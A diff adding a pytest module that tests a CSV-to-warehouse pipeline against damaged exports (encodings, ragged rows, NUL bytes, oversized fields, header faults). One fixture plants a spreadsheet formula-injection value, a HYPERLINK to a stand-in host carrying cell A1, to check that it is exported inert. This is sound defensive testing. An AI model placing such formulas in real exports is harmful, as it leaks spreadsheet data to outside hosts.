@@ -1,0 +1,291 @@
+"""Hostile exports: a catalogue of what real exports get wrong, each case a test.
+
+Header-level cases stop a run before anything is read (checked on the headers alone). Row-level
+cases run in ONE real flow run over a landing where each case is its own export date, copied
+from one generated day and then damaged; a clean copy of the same day is the baseline. Each case
+ends in a correct result or a clear error naming the file (and row and column where there is
+one) without quoting a value; bad rows go to the owner-only quarantine and are counted, and the
+counts reconcile: read = published + suppressed + quarantined + erased.
+
+(A re-export replacing a published file is test_operations' test_default_runs_only_new_or_changed_dates.)
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import datetime as dt
+import shutil
+import stat
+from pathlib import Path
+
+import pyarrow.compute as pc
+import pyarrow.parquet as pq
+import pytest
+from typer.testing import CliRunner
+
+from flows import landing as landing_io
+from flows import ledger
+from flows.cli import app
+from flows.paths import POLICIES
+from flows.warehouse import read_metadata
+from tests.conftest import run_flow
+from transforms.policy import load_policies
+
+BASE = dt.date(2026, 3, 1)
+NAMES = {"pos": "pos_lines_{}.csv", "membership": "members_{}.csv", "after_sales": "cases_{}.csv"}
+UNKNOWN_SUBJECTS = "2026-02-25 09:00:00,110101199001011237,,\n2026-02-25 09:01:00,,13900000000,\n2026-02-25 09:02:00,,,M999999999\n"
+
+
+def _lines(path: Path) -> list[bytes]:
+    return path.read_bytes().splitlines(keepends=True)
+
+
+def _replace_field(path: Path, line: int, column: int, value: bytes) -> None:
+    lines = _lines(path)
+    fields = lines[line].rstrip(b"\r\n").split(b",")
+    fields[column] = value
+    lines[line] = b",".join(fields) + b"\r\n"
+    path.write_bytes(b"".join(lines))
+
+
+def header_only(f):
+    (f["pos"].parent / (f["pos"].stem + "_part2.csv")).write_bytes(_lines(f["pos"])[0])
+
+
+def no_bom(f):
+    f["pos"].write_bytes(f["pos"].read_bytes().removeprefix(codecs.BOM_UTF8))
+
+
+def mixed_encoding(f):  # rows 5-7 of the GB18030 snapshot written in UTF-8
+    lines = _lines(f["membership"])
+    for i in (5, 6, 7):
+        lines[i] = lines[i].decode("gb18030").encode("utf-8")
+    f["membership"].write_bytes(b"".join(lines))
+
+
+def ragged(f):  # one row with a field too many, one cut short
+    lines = _lines(f["pos"])
+    lines[10] = lines[10].rstrip(b"\r\n") + b",extra\r\n"
+    lines[20] = b",".join(lines[20].split(b",")[:5]) + b"\r\n"
+    f["pos"].write_bytes(b"".join(lines))
+
+
+def invalid_date(f):  # txn_time on 2026-02-30
+    _replace_field(f["pos"], 3, 6, b"2026-02-30 10:00:00")
+
+
+def truncated(f):  # the file ends in the middle of its last row
+    data = f["pos"].read_bytes()
+    f["pos"].write_bytes(data[: data.rfind(b"\n", 0, len(data) - 2) + 40])
+
+
+def nul_byte(f):
+    _replace_field(f["pos"], 2, 13, b"MU\x00523")  # flight_no
+
+
+def delivered_twice(f):
+    shutil.copy(f["pos"], f["pos"].parent / (f["pos"].stem + "_copy.csv"))
+
+
+def long_field(f):  # a 3 MB complaint text, longer than a read block
+    _replace_field(f["after_sales"], 1, 6, b'"' + "很长的描述".encode() * 200_000 + b'"')
+
+
+def formula(f):
+    _replace_field(f["after_sales"], 1, 6, b'"=HYPERLINK(""http://x.example/?""&A1,""click"")"')
+
+
+def number_shapes(f):  # 820.00 in full-width digits; 1190.00 with a thousands separator
+    _replace_field(f["pos"], 1, 21, "８２０.００".encode())
+    _replace_field(f["pos"], 3, 23, b'"1,190.00"')
+
+
+def id_shapes(f):  # a resident ID with a wrong check digit (lower-case x is in every baseline day)
+    lines = _lines(f["pos"])
+    row = next(i for i, line in enumerate(lines) if i and len(line.split(b",")[10]) == 18 and line.split(b",")[10][-1:].isdigit())
+    doc = lines[row].split(b",")[10]
+    _replace_field(f["pos"], row, 10, doc[:-1] + str((int(doc[-1:]) + 1) % 10).encode())
+
+
+CASES = [header_only, no_bom, mixed_encoding, ragged, invalid_date, truncated, nul_byte, delivered_twice, long_field, formula,
+         number_shapes, id_shapes]
+DAYS = {case.__name__: (dt.date(2026, 4, 2) + dt.timedelta(days=i)).isoformat() for i, case in enumerate(CASES)}
+BASELINE = "2026-04-01"
+
+
+@pytest.fixture(scope="module")
+def catalogue(prefect_server, tmp_path_factory):
+    from sample_data.generator import Config, generate
+
+    root = tmp_path_factory.mktemp("hostile")
+    base, landing = root / "base", root / "landing"
+    generate(base, Config(days=1, rows=800, seed=7, split_last_day=False))
+
+    def copy_day(day: str) -> dict[str, Path]:
+        files = {}
+        for source, name in NAMES.items():
+            folder = landing / source / day
+            folder.mkdir(parents=True)
+            files[source] = folder / name.format(day.replace("-", ""))
+            shutil.copy(base / source / BASE.isoformat() / name.format(f"{BASE:%Y%m%d}"), files[source])
+        return files
+
+    copy_day(BASELINE)
+    for case in CASES:
+        case(copy_day(DAYS[case.__name__]))
+    shutil.copytree(base / "requests", landing / "requests")
+    with (landing / "requests" / "erasure.csv").open("a", encoding="utf-8") as fh:
+        fh.write(UNKNOWN_SUBJECTS)  # subjects nobody in the exports is
+    return landing, run_flow(landing, root / "out", every=True)
+
+
+def _counts(run, day: str, source: str) -> dict:
+    return run.summary["dates"][day][source]["counts"]
+
+
+def _table(run, day: str, source: str):
+    [path] = run.warehouse.glob(f"dataset={source}/export_date={day}/*.parquet")
+    return pq.read_table(path), read_metadata(path)
+
+
+def _quarantined(run, day: str, source: str) -> list[dict]:
+    files = sorted(run.restricted.glob(f"quarantine/{source}/export_date={day}/*.csv"))
+    for path in files:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
+    return [row for path in files for row in csv.DictReader(path.open(encoding="utf-8"))]
+
+
+def test_every_published_date_reconciles_and_unknown_erasure_subjects_change_nothing(catalogue):
+    _, run = catalogue
+    assert run.state.is_failed()  # two cases are refused (below); the others publish
+    assert {d for d, v in run.summary["dates"].items() if "error" in v} == {DAYS["mixed_encoding"], DAYS["long_field"]}
+    for sources in run.summary["dates"].values():
+        for counts in ({} if "error" in sources else {s: v["counts"] for s, v in sources.items()}).values():
+            assert counts["read"] == counts["published"] + counts["suppressed"] + counts["quarantined"] + counts["erased"]
+    assert ledger.verify(run.warehouse) == []
+
+
+def test_header_only_and_no_bom_publish_what_the_clean_file_publishes(catalogue):
+    _, run = catalogue
+    clean, _ = _table(run, BASELINE, "pos")
+    for case in ("header_only", "no_bom"):
+        assert _counts(run, DAYS[case], "pos") == _counts(run, BASELINE, "pos")
+        table, meta = _table(run, DAYS[case], "pos")
+        assert table.equals(clean)
+    assert len(_table(run, DAYS["header_only"], "pos")[1]["inputs"]) == 2
+
+
+def test_quoted_commas_quotes_and_line_breaks_stay_in_their_field(catalogue):
+    landing, run = catalogue
+    path = landing / "after_sales" / BASELINE / NAMES["after_sales"].format(BASELINE.replace("-", ""))
+    records = list(csv.reader(path.open(encoding="utf-8")))[1:]
+    assert any("\n" in value or "," in value or '"' in value for record in records for value in record)
+    assert _counts(run, BASELINE, "after_sales")["read"] == len(records)
+
+
+def test_a_file_mixing_encodings_fails_naming_file_line_and_column(catalogue):
+    landing, run = catalogue
+    error = run.summary["dates"][DAYS["mixed_encoding"]]["error"]
+    # The column where decoding first fails: UTF-8 text can also be valid GB18030 (as other
+    # characters), so an earlier field of the row may pass; one that fails stops the file.
+    assert f"members_{DAYS['mixed_encoding'].replace('-', '')}.csv: line 6, column '性别': not valid gb18030" in error
+    lines = _lines(landing / "membership" / DAYS["mixed_encoding"] / NAMES["membership"].format(DAYS["mixed_encoding"].replace("-", "")))
+    assert not any(value and value.decode("utf-8", "ignore") in error for value in lines[5].split(b",")[:3])
+    assert not list(run.warehouse.glob(f"dataset=*/export_date={DAYS['mixed_encoding']}"))
+
+
+@pytest.mark.parametrize("case, rows, problem", [
+    ("ragged", 2, "wrong number of fields"),
+    ("invalid_date", 1, "unparseable: txn_time"),
+    ("truncated", 1, "wrong number of fields"),
+    ("nul_byte", 1, "unparseable: flight_no"),
+])
+def test_bad_rows_go_to_quarantine_counted(catalogue, case, rows, problem):
+    _, run = catalogue
+    counts = _counts(run, DAYS[case], "pos")
+    assert counts["quarantined"] == rows
+    assert counts["read"] == _counts(run, BASELINE, "pos")["read"]  # a bad row is read, and set aside
+    found = _quarantined(run, DAYS[case], "pos")
+    assert len(found) == rows and all(r["problem"] == problem for r in found)
+    if problem.startswith("unparseable"):
+        assert [int(r["row"]) for r in found] == [{"invalid_date": 3, "nul_byte": 2}[case]]
+
+
+def test_a_file_delivered_twice_is_read_once_and_recorded(catalogue):
+    _, run = catalogue
+    day = DAYS["delivered_twice"]
+    assert _counts(run, day, "pos") == _counts(run, BASELINE, "pos")
+    _, meta = _table(run, day, "pos")
+    name = NAMES["pos"].format(day.replace("-", ""))
+    assert meta["copies_not_read"] == [{"file": f"pos/{day}/{name.replace('.csv', '_copy.csv')}", "copy_of": f"pos/{day}/{name}"}]
+    [entry] = [e for e in ledger.entries(run.warehouse) if e["kind"] == "partition" and e["data"]["export_date"] == day
+               and e["data"]["dataset"] == "pos"]
+    assert entry["data"]["copies_not_read"] == meta["copies_not_read"]
+
+
+def test_an_extremely_long_field_fails_the_file_clearly(catalogue):
+    _, run = catalogue
+    error = run.summary["dates"][DAYS["long_field"]]["error"]
+    assert "cases_" in error and "a row longer than 1 MiB after row 0" in error and "很长" not in error
+
+
+def test_a_formula_in_free_text_is_published_as_text_and_exported_inert(catalogue):
+    _, run = catalogue
+    table, _ = _table(run, DAYS["formula"], "after_sales")
+    assert any(v.startswith("=HYPERLINK(") for v in table["description"].drop_null().to_pylist())
+    out = CliRunner().invoke(app, ["query", f"SELECT description FROM after_sales WHERE export_date = '{DAYS['formula']}'",
+                                   "--warehouse", str(run.warehouse), "--format", "csv"])
+    assert out.exit_code == 0 and "'=HYPERLINK(" in out.output and "\n=HYPERLINK(" not in out.output
+
+
+def test_numbers_with_separators_or_full_width_digits_and_refunds_are_read_right(catalogue):
+    _, run = catalogue
+    clean, _ = _table(run, BASELINE, "pos")
+    shaped, _ = _table(run, DAYS["number_shapes"], "pos")
+    for column in ("unit_price", "amount", "qty"):
+        assert pc.sum(shaped[column]).as_py() == pc.sum(clean[column]).as_py(), column
+    assert pc.min(clean["qty"]).as_py() < 0  # refund lines are published with their sign
+
+
+def test_id_numbers_in_any_case_or_with_a_bad_check_digit_are_tokens_like_any_other(catalogue):
+    landing, run = catalogue
+    from tests.conftest import TEST_KEY
+    from transforms.pseudonymize import Pseudonymizer
+
+    policy = load_policies(POLICIES)["pos"]
+    raw = landing_io.Landing(landing)
+    docs = [v for t in landing_io.iter_csv(raw, f"pos/{BASELINE}/{NAMES['pos'].format(BASELINE.replace('-', ''))}", policy, [])
+            for v in t["doc_no"].to_pylist()]
+    lower = [d for d in docs if d.endswith("x")]
+    published = set(_table(run, BASELINE, "pos")[0]["customer_id"].to_pylist())
+    assert lower and all(Pseudonymizer(TEST_KEY.encode()).token(d.upper(), "customer") in published for d in lower)
+    assert _counts(run, DAYS["id_shapes"], "pos") == _counts(run, BASELINE, "pos")
+
+
+@pytest.mark.parametrize("damage, message", [
+    (lambda p: p.write_bytes(b""), "empty file (no header row)"),
+    (lambda p: p.write_bytes(p.read_bytes().replace(b",", b";")), "the header is one field holding ';': the file is not comma-separated"),
+    (lambda p: p.write_bytes(b"\n".join(line.rsplit(b",", 1)[0] for line in p.read_bytes().split(b"\n"))),
+     "required column(s) ['card_no'] are missing"),
+    (lambda p: p.write_bytes(p.read_bytes().replace(b"card_no", b"card_no,vip_note", 1)), "column(s) ['vip_note'] are not covered"),
+    (lambda p: p.write_bytes(p.read_bytes().replace(b"card_no", b"amount", 1)), "column(s) ['amount'] appear more than once"),
+])
+def test_header_problems_stop_the_run_naming_the_file(landing, tmp_path, damage, message):
+    """Checked on the headers of every file before any date is processed (a real run that meets
+    one publishes nothing: test_flow's test_unknown_column_fails_closed)."""
+    copy = tmp_path / "landing"
+    shutil.copytree(landing, copy)
+    relative = f"pos/{BASE}/pos_lines_{BASE:%Y%m%d}.csv"
+    damage(copy / relative)
+    problems = landing_io.check_headers(landing_io.Landing(copy), load_policies(POLICIES), [BASE], drop_unknown=False)
+    assert len(problems) == 1 and problems[0].startswith(relative) and message in problems[0]
+
+
+def test_a_gb18030_export_delivered_in_utf8_is_refused(landing, tmp_path):
+    copy = tmp_path / "landing"
+    shutil.copytree(landing, copy)
+    path = copy / "membership" / BASE.isoformat() / f"members_{BASE:%Y%m%d}.csv"
+    path.write_bytes(path.read_bytes().decode("gb18030").encode("utf-8"))
+    [problem] = landing_io.check_headers(landing_io.Landing(copy), load_policies(POLICIES), [BASE], drop_unknown=False)
+    assert problem.startswith(f"membership/{BASE}/members_") and "not covered by policy" in problem
